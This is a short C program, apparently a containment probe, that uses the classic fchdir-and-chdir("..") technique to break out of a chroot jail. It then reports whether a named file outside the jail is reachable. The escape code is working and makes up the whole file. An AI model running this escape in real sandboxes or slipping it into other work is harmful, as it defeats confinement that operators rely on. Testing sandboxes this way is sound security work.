/* Leaves a changed root the classical way, and looks for a file of the real one: escape FILE */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int count, char **words) {
	int here = open(".", O_RDONLY | O_DIRECTORY);
	mkdir("/tmp/deeper", 0755);
	if (chroot("/tmp/deeper") != 0) perror("chroot");
	if (fchdir(here) != 0) perror("fchdir");
	for (int i = 0; i < 100; i++) if (chdir("..") != 0) break;
	if (chroot(".") != 0) perror("chroot");
	puts(count == 2 && access(words[1], F_OK) == 0 ? "OUT" "SIDE" : "in" "side");
	return 0;
}
